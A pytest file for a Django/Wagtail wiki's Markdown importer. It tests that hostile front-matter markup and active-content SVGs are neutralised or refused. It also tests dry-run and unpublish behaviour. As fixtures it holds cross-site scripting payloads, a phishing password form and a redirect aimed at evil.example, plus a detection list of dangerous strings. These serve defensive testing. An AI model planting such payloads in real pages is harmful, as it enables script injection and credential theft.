"""Hostile content in an imported tree: markup in front matter, unsafe SVGs, and what a dry run leaves behind."""

import base64
import io
from pathlib import Path

import pytest

from django.core.management import call_command
from django.urls import reverse

from wagtail.images import get_image_model

from expertise.models import Topic
from imports.models import ImportRun
from tests.imports.test_admin_upload import zipped
from wiki.models import ArticlePage, ProcessPage

pytestmark = pytest.mark.django_db

HOSTILE = (
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<img src="x" onerror="alert(1)">'
    '<form action="https://evil.example/"><input name="password"></form>'
    '<a href="javascript:alert(2)">Read more</a> about paying suppliers'
)
FINANCE_INDEX = f"""---
title: "Finance <img src=x onerror=alert(3)>"
description: '{HOSTILE}'
tags: ['<img src=x onerror=alert(4)>Payables', '<script>alert(5)</script>']
---
How finance works.
"""
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
HARMLESS_SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'
    '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>'
    '<rect id="r" width="10" height="10" fill="url(#g)"/><use xlink:href="#r"/></svg>'
)
ACTIVE_SVGS = {
    "script.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "onload.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>',
    "link.svg": (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a></svg>'
    ),
    "foreign.svg": (
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">'
        "Hi</div></foreignObject></svg>"
    ),
    "external.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/></svg>',
    "entity.svg": ('<!DOCTYPE svg [<!ENTITY x "boom">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'),
}


def write(root: Path, files: dict[str, str | bytes]) -> Path:
    for path, content in files.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content, encoding="utf-8")
    return root


def assert_harmless(html: str) -> None:
    # The site's own pages hold forms of their own (the header's Ask box): the hostile one is named by its target.
    for active in ("<meta http-equiv", "onerror", '<form action="https://evil.example/', "javascript:", "alert("):
        assert active not in html, active


@pytest.fixture
def hostile_tree(tmp_path, admin_user):
    tree = write(tmp_path / "tree", {"finance/index.md": FINANCE_INDEX, "finance/pay.md": "# Pay\n\nWeekly.\n"})
    call_command("import_markdown", str(tree), "--owner", admin_user.username)
    return tree


def test_markup_in_front_matter_reaches_no_page_and_the_admin_still_edits_them(
    hostile_tree, home, signed_in, admin_user, client
):
    area = ProcessPage.objects.get(slug="finance")
    overview = ArticlePage.objects.get(slug="overview")
    for url in (home.url, area.url, overview.url):
        response = signed_in.get(url)
        assert response.status_code == 200
        assert_harmless(response.content.decode())
        assert "Read more about paying suppliers" in response.content.decode()

    client.force_login(admin_user)
    assert client.get(reverse("wagtailadmin_pages:edit", args=[area.pk])).status_code == 200
    assert client.get(reverse("wagtailadmin_pages:edit", args=[overview.pk])).status_code == 200


def test_front_matter_is_stored_as_plain_text(hostile_tree):
    area = ProcessPage.objects.get(slug="finance")
    assert area.title == "Finance"
    assert area.summary == "<p>Read more about paying suppliers</p>"
    overview = ArticlePage.objects.get(slug="overview")
    assert overview.title == "Finance"
    assert overview.summary == "Read more about paying suppliers"
    assert set(overview.topics.values_list("name", flat=True)) == {"Finance", "Payables"}
    assert not Topic.objects.filter(name__contains="<").exists()


def test_an_svg_with_active_content_is_refused_and_a_harmless_one_imported(tmp_path, home, admin_user):
    images = "\n\n".join(f"![{name}]({name})" for name in ["harmless.svg", *ACTIVE_SVGS])
    files = {"finance/pay.md": f"# Pay\n\n{images}\n", "finance/harmless.svg": HARMLESS_SVG}
    files.update({f"finance/{name}": svg for name, svg in ACTIVE_SVGS.items()})
    tree = write(tmp_path / "tree", files)
    out = io.StringIO()
    call_command("import_markdown", str(tree), "--owner", admin_user.username, stdout=out)

    assert list(get_image_model().objects.values_list("title", flat=True)) == ["harmless.svg"]
    report = out.getvalue()
    for name in ACTIVE_SVGS:
        assert f"finance/{name}: " in report
    assert "finance/script.svg: an SVG with active content (a script element)" in report
    page = ArticlePage.objects.get(slug="pay")
    assert page.live
    assert [block.block_type for block in page.body].count("image") == 1
    assert "[Image not imported: script.svg]" in str(page.body.raw_data)


def test_a_dry_run_stores_no_image_files(tmp_path, home, admin_user, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    tree = write(
        tmp_path / "tree",
        {"finance/pay.md": "# Pay\n\n![Screen](screen.png)\n\n![Chart](chart.svg)\n", "finance/screen.png": PNG},
    )
    (tree / "finance/chart.svg").write_text(HARMLESS_SVG, encoding="utf-8")
    before = sorted(settings.MEDIA_ROOT.rglob("*")) if settings.MEDIA_ROOT.exists() else []

    out = io.StringIO()
    call_command("import_markdown", str(tree), "--owner", admin_user.username, "--dry-run", stdout=out)

    after = sorted(settings.MEDIA_ROOT.rglob("*")) if settings.MEDIA_ROOT.exists() else []
    assert [path for path in after if path.is_file()] == [path for path in before if path.is_file()]
    assert "Dry run: nothing was saved. 1 created" in out.getvalue()
    assert not get_image_model().objects.exists()


def test_an_upload_leaves_pages_of_earlier_imports_published_unless_asked(
    client, admin_user, home, django_capture_on_commit_callbacks
):
    client.force_login(admin_user)
    first = {"finance/pay.md": "# Pay\n\nWeekly.\n", "finance/park.md": "# Park\n\nInvoices.\n"}
    second = {"finance/pay.md": "# Pay\n\nWeekly.\n"}

    def upload(files, **options):
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("imports_upload"), {"archive": zipped(files), "under": home.pk, **options})
        return ImportRun.objects.order_by("-pk").first()

    upload(first)
    run = upload(second)
    assert ArticlePage.objects.get(slug="park").live
    assert "Not in this import, left published" in run.report and "finance/park.md" in run.report
    assert run.summary["unpublished"] == 0

    dry = upload(second, dry_run="on", unpublish_missing="on")
    assert "Gone from the tree: unpublished" in dry.report and "finance/park.md" in dry.report
    assert ArticlePage.objects.get(slug="park").live

    run = upload(second, unpublish_missing="on")
    assert run.summary["unpublished"] == 1 and "finance/park.md" in run.report
    assert not ArticlePage.objects.get(slug="park").live
    form = client.get(reverse("imports_upload")).content.decode()
    assert "Unpublish pages of earlier imports here that this archive does not contain" in form


def test_the_command_unpublishes_missing_files_only_when_asked(tmp_path, home, admin_user):
    tree = write(tmp_path / "tree", {"finance/pay.md": "# Pay\n\nWeekly.\n", "finance/park.md": "# Park\n\nA.\n"})
    call_command("import_markdown", str(tree), "--owner", admin_user.username)
    (tree / "finance/park.md").unlink()

    left = "Not in this import, left published"
    gone = "Gone from the tree: unpublished (revisions kept)"
    for arguments, section in (([], left), (["--dry-run"], left), (["--dry-run", "--unpublish-missing"], gone)):
        out = io.StringIO()
        call_command("import_markdown", str(tree), "--owner", admin_user.username, *arguments, stdout=out)
        assert f"{section} (1):\n  finance/park.md" in out.getvalue(), arguments
        assert ArticlePage.objects.get(slug="park").live

    out = io.StringIO()
    call_command("import_markdown", str(tree), "--owner", admin_user.username, "--unpublish-missing", stdout=out)
    assert f"{gone} (1):\n  finance/park.md" in out.getvalue()
    assert not ArticlePage.objects.get(slug="park").live
